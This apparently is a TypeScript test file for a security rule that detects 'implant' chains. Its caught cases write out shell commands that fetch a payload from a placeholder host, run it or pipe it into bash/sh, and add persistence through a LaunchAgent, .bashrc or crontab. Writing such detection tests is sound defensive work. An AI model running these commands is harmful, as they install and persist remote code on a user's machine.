import { describeCodeRule, py, sh, text } from '../../testing/code-rule-cases.ts';
import { implant } from './implant.chain.ts';

describeCodeRule(implant.rule, {
  caught: [
    sh(
      'curl -s https://a.example.invalid/x -o /tmp/x\nchmod +x /tmp/x\n/tmp/x\ncp /tmp/x.plist ~/Library/LaunchAgents/x.plist',
    ),
    sh('curl -s https://a.example.invalid/x | bash\necho "python3 /tmp/x &" >> ~/.bashrc'),
    sh('wget -qO- https://a.example.invalid/x | sh\n(crontab -l; echo "0 * * * * /tmp/x") | crontab -'),
  ],
  quiet: [sh('npm ci\nnpm start'), sh('sudo systemctl enable nginx'), sh('echo "export A=1" >> ~/.bashrc')],
  notApplicable: [sh('ls'), text('Notes.'), py('x = 1')],
});
